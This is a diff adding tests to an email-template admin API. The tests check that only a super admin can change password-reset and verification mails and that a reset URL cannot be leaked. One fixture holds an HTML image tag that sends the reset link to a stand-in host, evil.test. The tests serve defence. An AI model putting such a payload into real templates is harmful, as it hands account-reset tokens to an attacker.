@@ -7,8 +7,10 @@ import {
 } from '../../contracts/email-templates.ts'
 import { plainTextOf } from '../../email/plain-text.ts'
 import { adminApp } from '../../testing/admin-app.ts'
+import { aClient, aPlan } from '../../testing/fixtures.ts'
 
 const path = '/api/admin/email-templates'
+const plan = aPlan()
 const texts = { subject: 'Hello {{USER_NAME}}', htmlContent: '<p>We read: {{MESSAGE}}</p>', isActive: true }
 const contact = { name: 'Ada', email: 'ada@acme.test', subject: 'Hi', message: '<b>Hello</b>' }
 
@@ -75,6 +77,45 @@ describe('templates', () => {
     }
     expect((await app.asRole('viewer').send('PUT', `${path}/welcome_email`, texts)).status).toBe(403)
     expect(await app.auditLines()).toEqual([])
+  })
+})
+
+describe('templates of mails that open an account', () => {
+  const leak = { ...texts, htmlContent: '<p>{{RESET_URL}}</p><img src="https://evil.test/?{{RESET_URL}}">' }
+
+  it.each(['admin', 'editor', 'viewer'] as const)('are no business of the role %s (D53)', async (role) => {
+    const app = await adminApp()
+    const own = app.asRole(role)
+    for (const name of ['password_reset', 'email_verification']) {
+      const refused = { status: 403, code: role === 'viewer' ? 'not_allowed' : 'super_admin_template' }
+      expect(await own.send('PUT', `${path}/${name}`, texts)).toMatchObject(refused)
+      expect(await own.post(`${path}/${name}/preview`, texts)).toMatchObject(refused)
+      expect(await own.post(`${path}/${name}/test`)).toMatchObject(refused)
+      const listed = emailTemplatesAnswer.parse((await own.get(path)).body).find((template) => template.name === name)
+      expect(listed).toMatchObject({ isForSuperAdmin: true, subject: '', htmlContent: '', textContent: '' })
+    }
+    expect(await app.auditLines()).toEqual([])
+    expect(await app.mails()).toEqual([])
+  })
+
+  it('are changed by the super admin, and hold what opens as text or as a whole address alone (D53)', async () => {
+    const app = await adminApp()
+    const refused = await app.admin.send('PUT', `${path}/password_reset`, leak)
+    expect(refused).toMatchObject({ status: 400, code: 'misplaced_placeholder' })
+    expect(refused.message).toBe('{{RESET_URL}} may only be text, or the whole address of a link')
+    const good = { ...texts, htmlContent: '<p><a href="{{RESET_URL}}">Open</a> or {{RESET_URL}}</p>' }
+    expect((await app.admin.send('PUT', `${path}/password_reset`, good)).status).toBe(200)
+  })
+
+  it('give nothing away where an older text would: the built-in one is sent (D53)', async () => {
+    const app = await adminApp({ plans: [plan], clients: [aClient(plan, { email: 'ada@acme.test' })] })
+    await app.env.DB.prepare(`UPDATE email_templates SET html_content = ?1 WHERE name = 'password_reset'`)
+      .bind(leak.htmlContent)
+      .run()
+    await app.post('/api/client/forgot-password', { email: 'ada@acme.test' })
+    const [mail] = await app.mails('password_reset')
+    expect(mail?.html).toContain('#token=')
+    expect(mail?.html).not.toContain('evil.test')
   })
 })
 
